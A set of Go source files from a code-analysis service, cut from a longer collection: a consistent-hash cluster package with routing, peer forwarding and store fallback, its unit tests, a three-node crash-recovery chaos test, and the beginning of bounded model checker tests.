		if r.Owner(k) != "http://solo:1" {
			t.Fatalf("single-member ring routed %s elsewhere", k)
		}
	}
}
