package cluster

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/soteria-analysis/soteria/internal/client"
	"github.com/soteria-analysis/soteria/internal/report"
	"github.com/soteria-analysis/soteria/internal/store"
)

// fakePeer is a minimal soteriad stand-in: an in-memory result store
// plus a canned forward handler, with counters for assertions.
type fakePeer struct {
	mu       sync.Mutex
	records  map[string]*report.Record
	forwards int
	puts     int
	gets     int
	down     bool // refuse everything with 503
	srv      *httptest.Server
}

func newFakePeer(t *testing.T) *fakePeer {
	t.Helper()
	p := &fakePeer{records: map[string]*report.Record{}}
	p.srv = httptest.NewServer(http.HandlerFunc(p.handle))
	t.Cleanup(p.srv.Close)
	return p
}

func (p *fakePeer) handle(w http.ResponseWriter, r *http.Request) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.down {
		http.Error(w, `{"error":"down"}`, http.StatusServiceUnavailable)
		return
	}
	switch {
	case strings.HasPrefix(r.URL.Path, "/v1/results/"):
		key := strings.TrimPrefix(r.URL.Path, "/v1/results/")
		switch r.Method {
		case http.MethodGet:
			p.gets++
			rec, ok := p.records[key]
			if !ok {
				http.Error(w, `{"error":"not found"}`, http.StatusNotFound)
				return
			}
			json.NewEncoder(w).Encode(rec)
		case http.MethodPut:
			p.puts++
			var rec report.Record
			if err := json.NewDecoder(r.Body).Decode(&rec); err != nil {
				http.Error(w, `{"error":"bad record"}`, http.StatusBadRequest)
				return
			}
			p.records[key] = &rec
			w.WriteHeader(http.StatusNoContent)
		}
	case r.URL.Path == "/v1/analyze":
		p.forwards++
		if r.Header.Get(client.ForwardedHeader) == "" {
			http.Error(w, `{"error":"missing forward marker"}`, http.StatusBadRequest)
			return
		}
		w.Header().Set(client.TraceHeader, r.Header.Get(client.TraceHeader))
		fmt.Fprintln(w, `{"job_id":"jb-peer","status":"done","key":"k","cached":true}`)
	default:
		http.Error(w, `{"error":"not found"}`, http.StatusNotFound)
	}
}

func (p *fakePeer) setDown(down bool) {
	p.mu.Lock()
	p.down = down
	p.mu.Unlock()
}

// twoNodeCluster builds a Cluster where "self" is a placeholder URL
// and the one remote peer is the fake server.
func twoNodeCluster(t *testing.T, remote string) *Cluster {
	t.Helper()
	c, err := New(Config{
		Self:         "http://self.invalid:1",
		Peers:        []string{"http://self.invalid:1", remote},
		StoreTimeout: 2 * time.Second,
	})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return c
}

func TestNewRejectsSelfOutsidePeers(t *testing.T) {
	_, err := New(Config{Self: "http://me:1", Peers: []string{"http://other:1"}})
	if err == nil {
		t.Fatal("self outside peer list accepted")
	}
}

func TestSingleMemberClusterIsAllLocal(t *testing.T) {
	c, err := New(Config{Self: "http://solo:1", Peers: []string{"http://solo:1"}})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	for i := 0; i < 50; i++ {
		key := fmt.Sprintf("%064x", i)
		if !c.IsLocal(key) {
			t.Fatalf("single-member cluster routed %s remotely", key)
		}
	}
}

func TestForwardSetsMarkerAndTrace(t *testing.T) {
	p := newFakePeer(t)
	c := twoNodeCluster(t, p.srv.URL)
	j, err := c.Forward(context.Background(), p.srv.URL, "/v1/analyze", []byte(`{"apps":[]}`), "tr-abc")
	if err != nil {
		t.Fatalf("Forward: %v", err)
	}
	if j.JobID != "jb-peer" || !j.Cached {
		t.Fatalf("unexpected job: %+v", j)
	}
	if j.Trace != "tr-abc" {
		t.Fatalf("trace not pinned across the hop: %q", j.Trace)
	}
	st := c.Status()
	var remote PeerStatus
	for _, ps := range st.Peers {
		if ps.Node == p.srv.URL {
			remote = ps
		}
	}
	if remote.Forwards != 1 || remote.ForwardErrors != 0 {
		t.Fatalf("peer status counters: %+v", remote)
	}
}

func TestForwardToUnknownNodeFails(t *testing.T) {
	p := newFakePeer(t)
	c := twoNodeCluster(t, p.srv.URL)
	if _, err := c.Forward(context.Background(), "http://stranger:1", "/v1/analyze", nil, ""); err == nil {
		t.Fatal("forward to non-member accepted")
	}
	if _, err := c.Forward(context.Background(), c.Self(), "/v1/analyze", nil, ""); err == nil {
		t.Fatal("forward to self accepted")
	}
}

func testRecord(apps ...string) *report.Record {
	return &report.Record{
		Schema:      report.Schema,
		Apps:        apps,
		Violations:  []report.Violation{},
		Checked:     []string{},
		Diagnostics: []report.Diagnostic{},
	}
}

// keyOwnedBy scans for a valid store key the given member owns.
func keyOwnedBy(t *testing.T, c *Cluster, member string) string {
	t.Helper()
	for i := 0; i < 100000; i++ {
		k := fmt.Sprintf("%064x", i)
		if c.Owner(k) == member {
			return k
		}
	}
	t.Fatalf("no key owned by %s in 100000 probes", member)
	return ""
}

func TestPeerBackendRoutesToOwner(t *testing.T) {
	p := newFakePeer(t)
	c := twoNodeCluster(t, p.srv.URL)
	local, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatalf("store.Open: %v", err)
	}
	b := c.Backend(local)

	localKey := keyOwnedBy(t, c, c.Self())
	remoteKey := keyOwnedBy(t, c, p.srv.URL)

	// Local key: writes and reads never touch the peer.
	if err := b.Put(localKey, testRecord("loc")); err != nil {
		t.Fatalf("Put local: %v", err)
	}
	if rec, ok := b.Get(localKey); !ok || rec.Apps[0] != "loc" {
		t.Fatalf("Get local: %v %v", rec, ok)
	}
	p.mu.Lock()
	if p.puts != 0 || p.gets != 0 {
		t.Fatalf("local key touched the peer: puts=%d gets=%d", p.puts, p.gets)
	}
	p.mu.Unlock()

	// Remote key: write lands on the peer, not the local disk.
	if err := b.Put(remoteKey, testRecord("rem")); err != nil {
		t.Fatalf("Put remote: %v", err)
	}
	p.mu.Lock()
	if p.puts != 1 {
		t.Fatalf("remote put did not reach the owner: puts=%d", p.puts)
	}
	p.mu.Unlock()
	if _, ok := local.Get(remoteKey); ok {
		t.Fatal("remote key was parked locally although the owner is healthy")
	}
	if rec, ok := b.Get(remoteKey); !ok || rec.Apps[0] != "rem" {
		t.Fatalf("Get remote: %v %v", rec, ok)
	}
}

func TestPeerBackendFallsBackWhenOwnerDown(t *testing.T) {
	p := newFakePeer(t)
	c := twoNodeCluster(t, p.srv.URL)
	local, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatalf("store.Open: %v", err)
	}
	b := c.Backend(local)
	remoteKey := keyOwnedBy(t, c, p.srv.URL)

	p.setDown(true)
	// Write degrades: the record parks locally instead of failing.
	if err := b.Put(remoteKey, testRecord("parked")); err != nil {
		t.Fatalf("Put with owner down: %v", err)
	}
	// Read degrades: owner miss falls back to the parked local copy.
	if rec, ok := b.Get(remoteKey); !ok || rec.Apps[0] != "parked" {
		t.Fatalf("Get with owner down: %v %v", rec, ok)
	}

	// Owner recovers: reads prefer it again (its copy wins, but the
	// bytes are canonical so there is nothing to reconcile).
	p.setDown(false)
	p.mu.Lock()
	p.records[remoteKey] = testRecord("parked")
	p.mu.Unlock()
	if rec, ok := b.Get(remoteKey); !ok || rec.Apps[0] != "parked" {
		t.Fatalf("Get after recovery: %v %v", rec, ok)
	}

	st := c.Status()
	for _, ps := range st.Peers {
		if ps.Node == p.srv.URL && ps.StorePutErrors == 0 {
			t.Fatalf("put fallback not counted: %+v", ps)
		}
	}
}

func TestPeerBackendNilLocalStore(t *testing.T) {
	p := newFakePeer(t)
	c := twoNodeCluster(t, p.srv.URL)
	b := c.Backend(nil)
	remoteKey := keyOwnedBy(t, c, p.srv.URL)
	localKey := keyOwnedBy(t, c, c.Self())

	if err := b.Put(remoteKey, testRecord("r")); err != nil {
		t.Fatalf("Put remote with nil local store: %v", err)
	}
	if rec, ok := b.Get(remoteKey); !ok || rec.Apps[0] != "r" {
		t.Fatalf("Get remote with nil local store: %v %v", rec, ok)
	}
	// Local keys on a diskless node: writes drop, reads miss — no panic.
	if err := b.Put(localKey, testRecord("l")); err != nil {
		t.Fatalf("Put local with nil store: %v", err)
	}
	if _, ok := b.Get(localKey); ok {
		t.Fatal("nil local store produced a hit")
	}
}

func TestClusterStatusSharesSumToOne(t *testing.T) {
	p := newFakePeer(t)
	c := twoNodeCluster(t, p.srv.URL)
	st := c.Status()
	if st.Members != 2 || st.Self != c.Self() {
		t.Fatalf("status header: %+v", st)
	}
	total := 0.0
	for _, ps := range st.Peers {
		total += ps.Share
	}
	if total < 0.999 || total > 1.001 {
		t.Fatalf("shares sum to %f", total)
	}
}
