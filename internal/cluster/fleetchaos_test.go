package cluster_test

// Process-level fleet chaos: three real soteriad processes formed into
// a fleet with -peers, loaded with the market-style corpus, one node
// SIGKILLed mid-load. The properties under test are the acceptance
// criteria for the cluster subsystem:
//
//   - requests to the surviving nodes keep succeeding (owner-loss
//     degrades to local analysis, never to client-visible failure);
//   - every job the killed node acknowledged before the kill reaches a
//     terminal "done" state after it restarts over the same journal —
//     no accepted job is lost;
//   - routing converges back: once the killed node is up again, the
//     survivors' peer reads reach its shard (cache hits resume).
//
// The harness mirrors internal/chaos: a once-compiled soteriad binary,
// free-port probing, SIGKILL (never a drain), and log capture.

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/soteria-analysis/soteria/internal/client"
	"github.com/soteria-analysis/soteria/internal/paperapps"
)

var buildOnce = sync.OnceValues(func() (string, error) {
	dir, err := os.MkdirTemp("", "soteria-fleet-*")
	if err != nil {
		return "", err
	}
	bin := filepath.Join(dir, "soteriad")
	cmd := exec.Command("go", "build", "-o", bin, "github.com/soteria-analysis/soteria/cmd/soteriad")
	if out, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("building soteriad: %v\n%s", err, out)
	}
	return bin, nil
})

func freeAddr(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("probing for a free port: %v", err)
	}
	defer l.Close()
	return l.Addr().String()
}

type syncBuffer struct {
	mu sync.Mutex
	b  strings.Builder
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// fleetNode is one soteriad subprocess in the fleet.
type fleetNode struct {
	addr  string
	url   string
	state string
	cmd   *exec.Cmd
	out   syncBuffer
}

// startNode launches (or relaunches, over the same state dir) one
// fleet member. peers is the full static membership, self included.
func startNode(t *testing.T, n *fleetNode, peers []string) {
	t.Helper()
	bin, err := buildOnce()
	if err != nil {
		t.Fatalf("%v", err)
	}
	n.cmd = exec.Command(bin,
		"-addr", n.addr,
		"-node", n.url,
		"-peers", strings.Join(peers, ","),
		"-store", filepath.Join(n.state, "store"),
		"-journal", filepath.Join(n.state, "journal.wal"),
		"-workers", "1",
		"-queue", "64",
		"-job-timeout", "60s",
	)
	n.cmd.Stdout = &n.out
	n.cmd.Stderr = &n.out
	if err := n.cmd.Start(); err != nil {
		t.Fatalf("starting soteriad %s: %v", n.url, err)
	}
	t.Cleanup(func() { killNode(n) })

	deadline := time.Now().Add(30 * time.Second)
	for {
		resp, err := http.Get(n.url + "/healthz")
		if err == nil {
			resp.Body.Close()
			if resp.StatusCode == http.StatusOK {
				return
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("soteriad %s never became healthy\n%s", n.url, n.out.String())
		}
		time.Sleep(25 * time.Millisecond)
	}
}

func killNode(n *fleetNode) {
	if n.cmd == nil || n.cmd.Process == nil {
		return
	}
	_ = n.cmd.Process.Signal(syscall.SIGKILL)
	_, _ = n.cmd.Process.Wait()
	n.cmd.Process = nil
}

func fleetClient(t *testing.T, url string) *client.Client {
	t.Helper()
	c, err := client.New(client.Config{BaseURL: url})
	if err != nil {
		t.Fatalf("client: %v", err)
	}
	return c
}

// variantApp derives distinct analysis inputs so each submission has
// its own content address and ring position.
func variantApp(i int) client.App {
	return client.App{
		Name:   fmt.Sprintf("fleet-app-%d", i),
		Source: fmt.Sprintf("// fleet variant %d\n%s", i, paperapps.SmokeAlarm),
	}
}

// TestFleetKillOneNodeMidLoad is the cluster acceptance test: boot a
// 3-node fleet, run load, SIGKILL one node mid-load, and verify no
// accepted job is lost and no surviving-node request fails.
func TestFleetKillOneNodeMidLoad(t *testing.T) {
	if testing.Short() {
		t.Skip("subprocess fleet chaos test")
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()

	// Boot the fleet: three processes, one static -peers list.
	nodes := make([]*fleetNode, 3)
	peers := make([]string, 3)
	for i := range nodes {
		addr := freeAddr(t)
		nodes[i] = &fleetNode{addr: addr, url: "http://" + addr, state: t.TempDir()}
		peers[i] = nodes[i].url
	}
	for _, n := range nodes {
		startNode(t, n, peers)
	}
	victim, survivorA, survivorB := nodes[2], nodes[0], nodes[1]
	ca, cb := fleetClient(t, survivorA.url), fleetClient(t, survivorB.url)

	// The fleet is wired: every node sees 3 members.
	for _, n := range nodes {
		st := clusterStatusOf(t, n.url)
		if st.Members != 3 {
			t.Fatalf("%s reports %d members, want 3", n.url, st.Members)
		}
	}

	// Warm phase: find variants owned by (and analyzed on) the victim,
	// observed via the response's node attribution. Their records live
	// on the victim's shard — the convergence probes for later.
	var victimOwned []int
	for i := 0; i < 30 && len(victimOwned) < 2; i++ {
		j, err := ca.Analyze(ctx, client.AnalyzeRequest{Apps: []client.App{variantApp(i)}})
		if err != nil {
			t.Fatalf("warm submit %d: %v", i, err)
		}
		if j.Status != "done" {
			t.Fatalf("warm submit %d ended %q: %+v", i, j.Status, j)
		}
		if j.Node == victim.url {
			victimOwned = append(victimOwned, i)
		}
	}
	if len(victimOwned) == 0 {
		t.Fatalf("no variant out of 30 hashed to the victim's arc (suspicious ring)")
	}

	// Async jobs accepted (journaled) by the victim — the jobs that
	// must survive its crash.
	const acceptedJobs = 3
	cv := fleetClient(t, victim.url)
	ids := make([]string, acceptedJobs)
	for i := 0; i < acceptedJobs; i++ {
		j, err := cv.Analyze(ctx, client.AnalyzeRequest{
			Apps:           []client.App{variantApp(100 + i)},
			Async:          true,
			IdempotencyKey: fmt.Sprintf("fleet-chaos-%d", i),
		})
		if err != nil {
			t.Fatalf("accept %d on victim: %v", i, err)
		}
		if j.JobID == "" {
			t.Fatalf("accept %d: no job ID in %+v", i, j)
		}
		ids[i] = j.JobID
	}

	// Load against the survivors; a third of its keys route to the
	// victim. The kill lands mid-load; every request must still
	// succeed — owner loss degrades to local analysis.
	var loadErrs atomic.Int64
	var firstErr atomic.Value
	var wg sync.WaitGroup
	killed := make(chan struct{})
	for w := 0; w < 2; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			c := ca
			if w == 1 {
				c = cb
			}
			for i := 0; i < 20; i++ {
				j, err := c.Analyze(ctx, client.AnalyzeRequest{Apps: []client.App{variantApp(200 + w*100 + i)}})
				if err != nil {
					loadErrs.Add(1)
					firstErr.CompareAndSwap(nil, fmt.Sprintf("worker %d req %d: %v", w, i, err))
				} else if j.Status != "done" {
					loadErrs.Add(1)
					firstErr.CompareAndSwap(nil, fmt.Sprintf("worker %d req %d: status %s (%s)", w, i, j.Status, j.Error))
				}
				if i == 4 && w == 0 {
					close(killed) // signal after a few requests are through
				}
			}
		}(w)
	}
	<-killed
	killNode(victim)
	wg.Wait()
	if n := loadErrs.Load(); n > 0 {
		t.Fatalf("%d load requests failed after the kill (first: %v)", n, firstErr.Load())
	}

	// Restart the victim on its original URL over the same store and
	// journal. Every job it accepted must still reach "done" under its
	// original ID — the journal, not the fleet, carries that promise.
	startNode(t, victim, peers)
	cv2 := fleetClient(t, victim.url)
	for i, id := range ids {
		j := waitTerminal(t, cv2, ctx, id, 90*time.Second)
		if j.Status != "done" || j.Result == nil {
			t.Fatalf("accepted job %d (%s) after restart: %+v", i, id, j)
		}
	}

	// Routing converges: a survivor's resubmission of a victim-owned
	// variant is served as a cache hit again, which requires a
	// successful peer read from the restarted victim's shard. The
	// forward breaker cools down in ~2s; poll past it.
	deadline := time.Now().Add(30 * time.Second)
	for {
		j, err := ca.Analyze(ctx, client.AnalyzeRequest{Apps: []client.App{variantApp(victimOwned[0])}})
		if err == nil && j.Status == "done" && j.Cached {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("survivor never regained cache hits from the restarted node (last: %+v, err %v)", j, err)
		}
		time.Sleep(250 * time.Millisecond)
	}
}

// clusterStatus is the slice of /v1/cluster/status this test reads.
type clusterStatus struct {
	Self    string `json:"self"`
	Members int    `json:"members"`
}

func clusterStatusOf(t *testing.T, url string) clusterStatus {
	t.Helper()
	resp, err := http.Get(url + "/v1/cluster/status")
	if err != nil {
		t.Fatalf("cluster status %s: %v", url, err)
	}
	defer resp.Body.Close()
	var st clusterStatus
	if err := json.NewDecoder(resp.Body).Decode(&st); err != nil {
		t.Fatalf("cluster status %s: %v", url, err)
	}
	return st
}

func waitTerminal(t *testing.T, c *client.Client, ctx context.Context, id string, limit time.Duration) *client.Job {
	t.Helper()
	deadline := time.Now().Add(limit)
	for {
		j, err := c.Poll(ctx, id)
		if err != nil {
			t.Fatalf("job %s lost after restart: %v", id, err)
		}
		if j.Terminal() {
			return j
		}
		if time.Now().After(deadline) {
			t.Fatalf("job %s never finished after restart: %+v", id, j)
		}
		time.Sleep(25 * time.Millisecond)
	}
}
