package cluster

import (
	"context"
	"net/http"
	"sync/atomic"
	"time"

	"github.com/soteria-analysis/soteria/internal/client"
	"github.com/soteria-analysis/soteria/internal/obs"
	"github.com/soteria-analysis/soteria/internal/report"
)

// Config describes one node's view of the fleet. Every node is
// configured with the same peer list (order does not matter — the ring
// canonicalizes it), plus its own advertised URL so it can recognize
// the keys it owns.
type Config struct {
	// Self is this node's advertised base URL. It must appear in Peers.
	Self string
	// Peers is the full member list, Self included.
	Peers []string
	// VirtualNodes per member (<= 0 uses DefaultVirtualNodes).
	VirtualNodes int
	// ForwardTimeout bounds one forwarded request end to end, analysis
	// included (default 2m).
	ForwardTimeout time.Duration
	// StoreTimeout bounds one peer store read or write. These sit on
	// the analysis hot path, so the default is short (2s): a slow peer
	// degrades to a local cache miss, not a slow request.
	StoreTimeout time.Duration
	// HTTPClient overrides the transport for peer clients (tests).
	HTTPClient *http.Client
}

// peer is this node's view of one fleet member: two clients with
// different resilience budgets, plus routing telemetry.
type peer struct {
	node string

	// fwd forwards whole requests: generous timeout, one retry, and a
	// breaker so a dead peer costs one failed dial, not one per request.
	fwd *client.Client
	// st serves store reads/writes: single attempt, short timeout — a
	// miss is cheaper than a wait.
	st *client.Client

	routeHist *obs.Histogram

	forwards    atomic.Int64 // requests forwarded to this peer
	forwardErrs atomic.Int64 // forwards that failed (fallback taken)
	fallbacks   atomic.Int64 // keys served locally because this owner was unreachable
	storeGets   atomic.Int64 // remote store reads attempted
	storeHits   atomic.Int64 // remote store reads that returned a record
	storePuts   atomic.Int64 // remote store writes attempted
	storePutErr atomic.Int64 // remote store writes that failed
}

// Cluster is one node's routing state: the ring plus a client per
// remote peer. Safe for concurrent use; membership is immutable for
// the process lifetime.
type Cluster struct {
	self  string
	ring  *Ring
	peers map[string]*peer // remote members only (not self)

	forwardTimeout time.Duration
	storeTimeout   time.Duration
}

// New builds a Cluster from cfg. A single-member fleet (Peers == [Self])
// is valid and routes everything locally — the same code path a
// multi-node fleet takes for self-owned keys.
func New(cfg Config) (*Cluster, error) {
	ring, err := NewRing(cfg.Peers, cfg.VirtualNodes)
	if err != nil {
		return nil, err
	}
	found := false
	for _, m := range ring.Members() {
		if m == cfg.Self {
			found = true
			break
		}
	}
	if !found {
		return nil, errSelfNotMember(cfg.Self)
	}
	if cfg.ForwardTimeout <= 0 {
		cfg.ForwardTimeout = 2 * time.Minute
	}
	if cfg.StoreTimeout <= 0 {
		cfg.StoreTimeout = 2 * time.Second
	}
	c := &Cluster{
		self:           cfg.Self,
		ring:           ring,
		peers:          make(map[string]*peer),
		forwardTimeout: cfg.ForwardTimeout,
		storeTimeout:   cfg.StoreTimeout,
	}
	for _, m := range ring.Members() {
		if m == cfg.Self {
			continue
		}
		// MaxAttempts 2: one retry absorbs a blip; anything longer and
		// the local fallback is the better answer. Breaker trips fast
		// (3 failures) and probes often (2s) so a node rejoining the
		// fleet takes traffic again within seconds.
		fwd, err := client.New(client.Config{
			BaseURL:          m,
			HTTPClient:       cfg.HTTPClient,
			MaxAttempts:      2,
			BaseBackoff:      50 * time.Millisecond,
			MaxBackoff:       500 * time.Millisecond,
			BreakerThreshold: 3,
			BreakerCooldown:  2 * time.Second,
		})
		if err != nil {
			return nil, err
		}
		st, err := client.New(client.Config{
			BaseURL:          m,
			HTTPClient:       cfg.HTTPClient,
			MaxAttempts:      1,
			BreakerThreshold: 3,
			BreakerCooldown:  2 * time.Second,
		})
		if err != nil {
			return nil, err
		}
		c.peers[m] = &peer{
			node:      m,
			fwd:       fwd,
			st:        st,
			routeHist: obs.NewHistogram(obs.DefaultLatencyBounds()),
		}
	}
	return c, nil
}

type errSelfNotMember string

func (e errSelfNotMember) Error() string {
	return "cluster: self node " + string(e) + " is not in the peer list"
}

// Self returns this node's advertised URL.
func (c *Cluster) Self() string { return c.self }

// Ring exposes the ownership ring (for status endpoints and tests).
func (c *Cluster) Ring() *Ring { return c.ring }

// Owner returns the node owning key.
func (c *Cluster) Owner(key string) string { return c.ring.Owner(key) }

// IsLocal reports whether this node owns key.
func (c *Cluster) IsLocal(key string) bool { return c.ring.Owner(key) == c.self }

// Remote reports whether node is a known member other than self.
func (c *Cluster) Remote(node string) bool {
	_, ok := c.peers[node]
	return ok
}

// Forward relays a pre-encoded analyze/batch body to node and returns
// the owner's job response. The forwarded-hop marker is set so the
// owner serves it locally whatever its ring says; trace pins the
// originating request's trace ID across the hop.
func (c *Cluster) Forward(ctx context.Context, node, path string, body []byte, trace string) (*client.Job, error) {
	p, ok := c.peers[node]
	if !ok {
		return nil, errSelfNotMember(node) // routing bug: forwarding to self or a stranger
	}
	p.forwards.Add(1)
	ctx, cancel := context.WithTimeout(ctx, c.forwardTimeout)
	defer cancel()
	start := time.Now()
	j, err := p.fwd.ForwardRaw(ctx, path, body, trace)
	p.routeHist.Observe(time.Since(start))
	if err != nil {
		p.forwardErrs.Add(1)
		return nil, err
	}
	return j, nil
}

// NoteFallback records that a key owned by node was served locally
// because the owner was unreachable.
func (c *Cluster) NoteFallback(node string) {
	if p, ok := c.peers[node]; ok {
		p.fallbacks.Add(1)
	}
}

// storeGet reads key from its remote owner's store. Misses and errors
// are both "not found" — the Backend contract.
func (c *Cluster) storeGet(node, key string) (*report.Record, bool) {
	p, ok := c.peers[node]
	if !ok {
		return nil, false
	}
	p.storeGets.Add(1)
	ctx, cancel := context.WithTimeout(context.Background(), c.storeTimeout)
	defer cancel()
	rec, err := p.st.Result(ctx, key)
	if err != nil || rec == nil {
		return nil, false
	}
	p.storeHits.Add(1)
	return rec, true
}

// storePut writes key's record to its remote owner's store.
func (c *Cluster) storePut(node, key string, rec *report.Record) error {
	p, ok := c.peers[node]
	if !ok {
		return errSelfNotMember(node)
	}
	p.storePuts.Add(1)
	ctx, cancel := context.WithTimeout(context.Background(), c.storeTimeout)
	defer cancel()
	if err := p.st.PutResult(ctx, key, rec); err != nil {
		p.storePutErr.Add(1)
		return err
	}
	return nil
}

// RouteSeries returns per-peer forward-latency histogram series for
// the /metrics endpoint.
func (c *Cluster) RouteSeries() []obs.Series {
	out := make([]obs.Series, 0, len(c.peers))
	for _, m := range c.ring.Members() {
		if p, ok := c.peers[m]; ok {
			out = append(out, obs.Series{Label: "peer", Value: m, H: p.routeHist})
		}
	}
	return out
}

// PeerStatus is one member's routing view from this node.
type PeerStatus struct {
	Node  string  `json:"node"`
	Self  bool    `json:"self,omitempty"`
	Share float64 `json:"share"` // exact arc-length ownership fraction

	// Routing counters (zero for self: a node never routes to itself).
	Forwards       int64 `json:"forwards,omitempty"`
	ForwardErrors  int64 `json:"forward_errors,omitempty"`
	Fallbacks      int64 `json:"fallbacks,omitempty"`
	StoreGets      int64 `json:"store_gets,omitempty"`
	StoreHits      int64 `json:"store_hits,omitempty"`
	StorePuts      int64 `json:"store_puts,omitempty"`
	StorePutErrors int64 `json:"store_put_errors,omitempty"`
}

// Status is this node's cluster view, served on /v1/cluster/status.
type Status struct {
	Self         string       `json:"self"`
	Members      int          `json:"members"`
	VirtualNodes int          `json:"vnodes"`
	Peers        []PeerStatus `json:"peers"`
}

// Status snapshots the routing state. Counters are monotonic since
// process start.
func (c *Cluster) Status() Status {
	shares := c.ring.Shares()
	st := Status{
		Self:         c.self,
		Members:      len(c.ring.Members()),
		VirtualNodes: c.ring.VirtualNodes(),
	}
	for _, m := range c.ring.Members() {
		ps := PeerStatus{Node: m, Self: m == c.self, Share: shares[m]}
		if p, ok := c.peers[m]; ok {
			ps.Forwards = p.forwards.Load()
			ps.ForwardErrors = p.forwardErrs.Load()
			ps.Fallbacks = p.fallbacks.Load()
			ps.StoreGets = p.storeGets.Load()
			ps.StoreHits = p.storeHits.Load()
			ps.StorePuts = p.storePuts.Load()
			ps.StorePutErrors = p.storePutErr.Load()
		}
		st.Peers = append(st.Peers, ps)
	}
	return st
}
