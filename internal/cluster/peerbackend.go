package cluster

import (
	"github.com/soteria-analysis/soteria/internal/report"
	"github.com/soteria-analysis/soteria/internal/store"
)

// PeerBackend implements store.Backend over the fleet: each key's
// record lives on its ring owner, and every node reads and writes
// through that owner. The local disk store stays the backstop —
//
//   - a read of a remotely-owned key tries the owner first, then falls
//     back to the local store (a record parked here by an earlier
//     write fallback is still a hit);
//   - a write of a remotely-owned key goes to the owner; if the owner
//     is unreachable the record is parked locally instead, so the
//     analysis that produced it is never thrown away.
//
// Records are content-addressed and canonical, so a key's bytes are
// identical wherever they land — "fallback copies" never diverge from
// the owner's copy, they are just cache warmth in the wrong place.
type PeerBackend struct {
	c     *Cluster
	local *store.Store
}

var _ store.Backend = (*PeerBackend)(nil)

// Backend wraps the node's local store in the fleet's routing. A nil
// local store is allowed (diskless node): remote keys still resolve
// through their owners, local keys always miss.
func (c *Cluster) Backend(local *store.Store) *PeerBackend {
	return &PeerBackend{c: c, local: local}
}

// Get implements store.Backend.
func (b *PeerBackend) Get(key string) (*report.Record, bool) {
	owner := b.c.Owner(key)
	if owner == b.c.self {
		return b.local.Get(key)
	}
	if rec, ok := b.c.storeGet(owner, key); ok {
		return rec, true
	}
	return b.local.Get(key)
}

// Put implements store.Backend.
func (b *PeerBackend) Put(key string, rec *report.Record) error {
	owner := b.c.Owner(key)
	if owner == b.c.self {
		return b.local.Put(key, rec)
	}
	if err := b.c.storePut(owner, key, rec); err != nil {
		// Owner unreachable: park the record locally so the work
		// survives. Reads fall back here until the owner returns.
		return b.local.Put(key, rec)
	}
	return nil
}

// Stats implements store.Backend: the local store's counters plus this
// node's remote reads/writes, so cache-hit accounting spans the fleet.
func (b *PeerBackend) Stats() store.Stats {
	st := b.local.Stats()
	for _, p := range b.c.peers {
		gets, hits := p.storeGets.Load(), p.storeHits.Load()
		st.Hits += hits
		st.Misses += gets - hits
		st.Puts += p.storePuts.Load() - p.storePutErr.Load()
	}
	return st
}
