package bmc

import (
	"testing"

	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/kripke"
	"github.com/soteria-analysis/soteria/internal/modelcheck"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/statemodel"
)

func TestFindsShortestCounterexample(t *testing.T) {
	// Chain 0 -> 1 -> 2(bad); only state 0 initial.
	k := kripke.New(3)
	k.Init = []int{0}
	k.AddEdge(0, 1, "")
	k.AddEdge(1, 2, "")
	k.AddEdge(2, 2, "")
	r := CheckAGProp(k, func(s int) bool { return s != 2 }, 10)
	if !r.Violated {
		t.Fatal("should find violation")
	}
	if r.Depth != 2 || len(r.Path) != 3 || r.Path[2] != 2 {
		t.Errorf("result = %+v", r)
	}
	// The path must be a real path.
	for i := 0; i < len(r.Path)-1; i++ {
		found := false
		for _, t2 := range k.Succs[r.Path[i]] {
			if t2 == r.Path[i+1] {
				found = true
			}
		}
		if !found {
			t.Errorf("path step %d invalid", i)
		}
	}
}

func TestNoViolationWithinBound(t *testing.T) {
	k := kripke.New(3)
	k.Init = []int{0}
	k.AddEdge(0, 1, "")
	k.AddEdge(1, 0, "")
	k.AddEdge(2, 2, "") // bad state unreachable
	r := CheckAGProp(k, func(s int) bool { return s != 2 }, 8)
	if r.Violated {
		t.Errorf("unexpected violation: %+v", r)
	}
}

func TestUnreachableBadState(t *testing.T) {
	// Bad state exists but no edge leads to it from the initial state.
	k := kripke.New(4)
	k.Init = []int{0}
	k.AddEdge(0, 1, "")
	k.AddEdge(1, 1, "")
	k.AddEdge(2, 3, "")
	k.AddEdge(3, 3, "")
	r := CheckAGProp(k, func(s int) bool { return s != 3 }, 10)
	if r.Violated {
		t.Error("state 3 is unreachable from 0")
	}
}

func TestCheckAGFormula(t *testing.T) {
	k := kripke.New(2)
	k.Init = []int{0}
	k.AddEdge(0, 1, "")
	k.AddEdge(1, 1, "")
	k.Labels[0]["p"] = true
	r, ok := CheckAG(k, ctl.MustParse(`AG "p"`), k.N)
	if !ok {
		t.Fatal("CheckAG should handle AG prop")
	}
	if !r.Violated {
		t.Error("state 1 violates p")
	}
	// Non-AG or nested temporal formulas are rejected.
	if _, ok := CheckAG(k, ctl.MustParse(`EF "p"`), k.N); ok {
		t.Error("EF should not be handled")
	}
	if _, ok := CheckAG(k, ctl.MustParse(`AG (EF "p")`), k.N); ok {
